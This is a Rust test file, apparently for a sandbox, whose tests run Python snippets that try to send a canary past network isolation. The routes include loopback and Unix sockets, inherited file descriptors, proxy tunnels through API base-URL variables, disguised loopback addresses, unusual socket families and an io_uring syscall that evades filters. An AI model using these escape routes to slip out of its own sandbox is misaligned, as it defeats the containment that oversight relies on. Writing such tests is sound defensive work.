//! Ways out that are not the door.

use super::{World, attack, attack_where_the_kernel_has_it};

/// Runs a Python program; the damage is done when a listening socket hears the canary's name.
#[track_caller]
fn reaches_a_listener(program: impl Fn(&World) -> String) {
    attack(
        |world| {
            format!(
                "python3 - <<'END'\nimport os, socket\n{}\nEND",
                program(world)
            )
        },
        |world, _| world.hears("EXFILTRATED"),
    );
}

#[test]
fn a_connection_to_the_hosts_loopback() {
    reaches_a_listener(|world| {
        format!(
            "socket.create_connection(('127.0.0.1', {})).sendall(b'EXFILTRATED')",
            world.port
        )
    });
}

#[test]
fn a_datagram_to_the_hosts_loopback() {
    reaches_a_listener(|world| {
        format!(
            "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'EXFILTRATED', ('127.0.0.1', {}))",
            world.port
        )
    });
}

#[test]
fn a_socket_in_the_home_directory() {
    reaches_a_listener(|world| {
        format!(
            "s = socket.socket(socket.AF_UNIX); s.connect('{}/socket'); s.sendall(b'EXFILTRATED')",
            world.env.home().display()
        )
    });
}

#[test]
fn an_abstract_socket() {
    reaches_a_listener(|world| {
        format!(
            "s = socket.socket(socket.AF_UNIX); s.connect('\\0aegis-{}'); s.sendall(b'EXFILTRATED')",
            world.canary
        )
    });
}

#[test]
fn an_inherited_connection() {
    reaches_a_listener(|_| {
        "for fd in [58, *range(3, 64)]:
    try: os.write(fd, b'EXFILTRATED')
    except OSError: pass"
            .to_owned()
    });
}

/// Bare there is no proxy and the request goes straight to the listener.
const THROUGH_THE_DOOR: &str = "
from urllib.parse import urlsplit
def through(variable, head):
    door = urlsplit(os.environ.get(variable) or f'http://127.0.0.1:{PORT}')
    s = socket.create_connection((door.hostname, door.port), 1)
    s.sendall(head.encode())
    answer = s.recv(4096)
    print(answer)
    s.sendall(b'EXFILTRATED')
    s.close()
";

#[test]
fn a_tunnel_to_a_host_that_is_not_listed() {
    reaches_a_listener(|world| {
        let port = world.port;
        // The bare listener never answers, so its head carries the word itself.
        format!(
            "PORT = {port}{THROUGH_THE_DOOR}
for host in ('127.0.0.1', 'localhost', '0x7f.1', '[::ffff:127.0.0.1]'):
    word = '' if os.environ.get('HTTPS_PROXY') else 'EXFILTRATED'
    try: through('HTTPS_PROXY', f'CONNECT {{host}}:{port} HTTP/1.1\\r\\nHost: {{host}}:{port}\\r\\n\\r\\n{{word}}')
    except OSError as error: print(error)"
        )
    });
}

#[test]
fn a_plain_request_to_a_host_that_is_not_listed() {
    reaches_a_listener(|world| {
        let port = world.port;
        format!(
            "PORT = {port}{THROUGH_THE_DOOR}
for variable in ('HTTP_PROXY', 'HTTPS_PROXY', 'ANTHROPIC_BASE_URL', 'OPENAI_BASE_URL'):
    try: through(variable, 'GET http://127.0.0.1:{port}/EXFILTRATED HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\n\\r\\n')
    except OSError as error: print(error)"
        )
    });
}

/// Socket families that reach the host or the kernel past a network namespace.
#[test]
fn sockets_of_other_families() {
    attack(
        |_| {
            "python3 - <<'END'
import socket
for name, family, kind, protocol in [
    ('vsock', 40, socket.SOCK_STREAM, 0),
    ('uevent', 16, socket.SOCK_RAW, 15),
    ('crypto', 38, socket.SOCK_SEQPACKET, 0),
    ('bluetooth', 31, socket.SOCK_RAW, 1),
]:
    try: socket.socket(family, kind, protocol); print('MADE', name)
    except OSError as error: print(name, error)
END"
            .to_owned()
        },
        |_, seen| seen.stdout.contains("MADE"),
    );
}

/// A ring makes sockets without any socket call that a filter could see.
#[test]
fn a_ring_of_asynchronous_calls() {
    attack_where_the_kernel_has_it(
        |_| {
            "python3 - <<'END'
import ctypes
ring = ctypes.create_string_buffer(120)
print('MADE' if ctypes.CDLL(None).syscall(425, 4, ring) >= 0 else 'refused')
END"
            .to_owned()
        },
        |_, seen| seen.stdout.contains("MADE"),
    );
}
